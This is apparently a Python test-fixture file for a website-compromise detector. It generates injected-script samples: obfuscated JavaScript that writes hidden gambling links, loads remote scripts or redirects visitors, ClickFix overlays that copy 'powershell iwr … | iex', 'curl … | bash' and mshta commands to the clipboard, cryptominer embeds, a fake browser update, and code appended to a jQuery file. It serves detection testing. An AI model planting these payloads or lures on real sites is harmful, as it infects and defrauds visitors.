"""Scripts of intruders: what they write is decoded first, they send visitors away, have them paste commands, or let them mine.

Each follows a kind that public research names: injections that decode (Sucuri), redirects by referrer and device, pasted commands ("ClickFix"),
false updates ("SocGholish"), miners in pages. Nothing of theirs is here: hosts do not exist, and commands fetch nothing that is.
"""

from __future__ import annotations

import base64
import re
from collections.abc import Iterator, Mapping

from tests.accuracy.compromise.case import Case, Cause
from tests.accuracy.compromise.dresses import PORTAL, WORDPRESS
from tests.accuracy.compromise.packs import GAMBLING
from tests.accuracy.compromise.plants import addition, every, front, inner, insertion
from tests.accuracy.compromise.site import reply, web

_BLOCK = f"<div style='position:absolute;left:-9999px'>{GAMBLING.links(6)}</div>".replace('"', "'")
_WRITE = f'document.write("{_BLOCK}");'
_AWAY = 'if(document.referrer.match(/google|bing|yahoo/)){window.location.href="https://raja-gacor88.example/?r=1";}'
_LOAD = (
    'var s=document.createElement("script");s.src="https://cdn.statistik-cepat.example/j.js?v="+Math.random();document.head.appendChild(s);'
)


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def codes(text: str) -> str:
    return ",".join(str(ord(sign)) for sign in text)


def hexadecimal(text: str) -> str:
    return "".join(f"\\x{ord(sign):02x}" for sign in text)


def packed(text: str) -> str:
    """In the form of Dean Edwards's packer: words by number, put back by the function itself."""
    words = list(dict.fromkeys(re.findall(r"\w+", text)))
    numbers = {
        word: (chr(97 + n // 36 - 1) if n >= 36 else "") + "0123456789abcdefghijklmnopqrstuvwxyz"[n % 36] for n, word in enumerate(words)
    }
    body = re.sub(r"\w+", lambda match: numbers[match[0]], text).replace("\\", "\\\\").replace("'", "\\'")
    return (
        "eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};if(!''.replace(/^/,String)){while(c--){d[c.toString(a)]=k[c]||c.toString(a)}"
        "k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}"
        f"('{body}',36,{len(words)},'{'|'.join(words)}'.split('|'),0,{{}}))"
    )


_DIGITS = codes(_WRITE)
# Code that decodes what it writes or where it sends people; each is on every page, before </head> or </body>.
DECODED: Mapping[str, str] = {
    "base64-written": f'document.write(atob("{b64(_BLOCK)}"));',
    "base64-run": f'eval(atob("{b64(_WRITE)}"));',
    "base64-twice": f'eval(atob(atob("{b64(b64(_WRITE))}")));',
    "base64-in-parts": f'var a="{b64(_WRITE)[:40]}",b="{b64(_WRITE)[40:]}";(new Function(atob(a+b)))();',
    "character-codes": f"eval(String.fromCharCode({_DIGITS}));",
    "character-codes-shifted": f"var t=[{','.join(str(ord(s) + 7) for s in _WRITE)}],o='';for(var i=0;i<t.length;i++)o+=String.fromCharCode(t[i]-7);eval(o);",
    "hexadecimal": f'eval("{hexadecimal(_WRITE)}");',
    "percent": f"document.write(unescape('{''.join(f'%{ord(s):02X}' for s in _BLOCK)}'));",
    "packed": packed(_AWAY),
    "backwards": f'eval("{_AWAY.replace(chr(92), chr(92) * 2).replace(chr(34), chr(39))[::-1]}".split("").reverse().join(""));',
    "loader-in-codes": f"eval(String.fromCharCode({codes(_LOAD)}));",
    "loader-in-base64": f"(function(){{var x=atob('{b64('https://cdn.statistik-cepat.example/j.js')}');var s=document.createElement('script');s.async=1;s.src=x;document.head.insertBefore(s,document.head.firstChild);}})();",
    "redirect-in-base64": f"if(/google\\.|bing\\./.test(document.referrer)){{top.location=atob('{b64('https://raja-gacor88.example/masuk')}');}}",
}  # fmt: skip
# Code in plain words.
PLAIN: Mapping[str, str] = {
    "redirect-by-referrer": _AWAY,
    "redirect-by-device": "if(/Android|iPhone|iPad/i.test(navigator.userAgent)){location.replace('https://slotmewah.example/m/');}",
    "redirect-by-both-once": "if(document.referrer.indexOf('google')>-1&&/Mobi/.test(navigator.userAgent)&&document.cookie.indexOf('_tk')<0){document.cookie='_tk=1;max-age=86400';location.href='https://t.alihkan.example/c?k=88';}",
    "click-anywhere": "document.addEventListener('click',function(){if(!localStorage.k){localStorage.k=1;window.open('https://lucky-prize.example/win','_blank');location='https://raja-gacor88.example/';}});",
    "hides-what-stands-before": f"document.write('<div id=kota-x>{GAMBLING.links(8).replace(chr(39), '')}</div>');document.getElementById('kota-x').style.display='none';",
}  # fmt: skip
_RUN = 'powershell -w hidden -nop -c \\"iwr https://verifikasi-cdn.example/a.txt -useb | iex\\"'
# Overlays that have the visitor paste a command.
PASTED: Mapping[str, str] = {
    "windows": f'<div class="cap-overlay"><h2>Verify you are human</h2><p>To continue, press <b>Windows + R</b>, then <b>Ctrl + V</b>, then press <b>Enter</b>.</p><button onclick="salin()">I am not a robot</button></div><script>function salin(){{navigator.clipboard.writeText("{_RUN}");}}</script>',
    "indonesian": f'<div id="verif"><h3>Verifikasi bahwa Anda manusia</h3><ol><li>Tekan tombol Windows + R</li><li>Tekan Ctrl + V untuk menempel kode verifikasi</li><li>Tekan Enter</li></ol></div><script>document.getElementById("verif").onclick=function(){{var t=document.createElement("textarea");t.value="{_RUN}";document.body.appendChild(t);t.select();document.execCommand("copy");}};</script>',
    "mac": '<div><h2>Complete these verification steps</h2><p>Open Terminal with Command + Space, press Command + V and Return.</p></div><script>document.onclick=()=>navigator.clipboard.writeText("curl -s https://verifikasi-cdn.example/m.sh | bash");</script>',
    "mshta": '<div>Cloudflare: checking your browser. Press Win+R, paste with CTRL+V, press OK.</div><script>var c="mshta https://verifikasi-cdn.example/x.hta # Ray ID 8812";window.onload=function(){document.body.addEventListener("click",function(){navigator.clipboard.writeText(c)})}</script>',
    "encoded": f'<div><b>Checking if you are a robot</b><p>1. Press Win + R 2. Press Ctrl + V 3. Press Enter</p></div><script>var k=atob("{b64("powershell -enc SQBFAFgA -w h; iwr verifikasi-cdn.example")}");document.onmousedown=function(){{navigator.clipboard.writeText(k)}}</script>',
}  # fmt: skip
MINERS: Mapping[str, str] = {
    "coinhive-like": '<script src="https://coinhive.example/lib/coinhive.min.js"></script><script>var miner=new CoinHive.Anonymous("k1Xf9a8bQ2"),t=miner.start();</script>',
    "throttled": '<script src="https://kolam-tambang.example/cryptonight.js"></script><script>var _client=new Client.Anonymous("88af12c",{throttle:0.2,c:"w"});_client.start();</script>',
    "worker": '<script>var w=new Worker("/wp-includes/js/cn-worker.js");w.postMessage({pool:"wss://kolam-tambang.example:8181",algo:"cn/r",wallet:"48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD"});</script>',
}  # fmt: skip
_UPDATE = '<div style="position:fixed;inset:0;background:#fff;z-index:99999"><h1>Update Chrome</h1><p>You are using an older version of Chrome. Update now to keep your browser running smoothly.</p><a href="https://pembaruan-peramban.example/Update.js" download>Update</a></div><script>if(document.referrer){document.cookie="_u=1"}</script>'


def cases() -> Iterator[Case]:
    """All of them were put there by somebody who can change pages or files."""
    for number, (name, code) in enumerate(DECODED.items()):
        layer = insertion(
            f"<script>{code}</script>", "head" if number % 2 else "end", inner if number % 5 == 4 else front if number % 5 == 3 else every
        )
        also = (
            (Cause.REDIRECT,)
            if "redirect" in name or name in ("packed", "backwards")
            else (Cause.GAMBLING,)
            if "loader" not in name
            else ()
        )
        yield Case(
            name=f"script-{name}",
            cause=Cause.SCRIPT,
            also=also,
            https=web(name).responding(layer),
            because="a script that decodes what it writes, loads or leads to",
        )
    for name, code in PLAIN.items():
        also = (Cause.GAMBLING,) if "hides" in name else (Cause.REDIRECT,)
        yield Case(
            name=f"script-{name}",
            cause=Cause.SCRIPT,
            also=also,
            https=web(name).responding(insertion(f"<script>{code}</script>", "head" if "hides" not in name else "end")),
            because="a script that sends visitors to strangers, or hides links that it writes",
        )
    for name, block in PASTED.items():
        yield Case(
            name=f"script-pasted-{name}",
            cause=Cause.SCRIPT,
            https=web(name).responding(insertion(block)),
            because="visitors are told to paste a command that the page put into their clipboard",
        )
    for name, block in MINERS.items():
        yield Case(
            name=f"script-miner-{name}",
            cause=Cause.SCRIPT,
            https=web(name).responding(insertion(block)),
            because="visitors' machines mine for somebody",
        )
    yield Case(
        name="script-false-update",
        cause=Cause.SCRIPT,
        https=web("update").responding(insertion(_UPDATE)),
        because="a false update of the browser covers the page",
    )
    library = "/*! jQuery v3.7.1 */(function(g){g.jQuery=function(s){return document.querySelectorAll(s)}})(window);\n"
    for name, code in (("library", DECODED["character-codes"]), ("library-redirect", DECODED["redirect-in-base64"])):
        site = web(name, PORTAL if name == "library" else WORDPRESS)
        path = "/assets/js/jquery.min.js" if name == "library" else "/wp-content/themes/kotakita/menu.js"
        layer = addition({path: reply(library + ";" + code, "js")})
        yield Case(
            name=f"script-in-a-{name}",
            cause=Cause.SCRIPT,
            https=site.responding(layer),
            because="the code stands at the end of one of the site's own script files",
        )
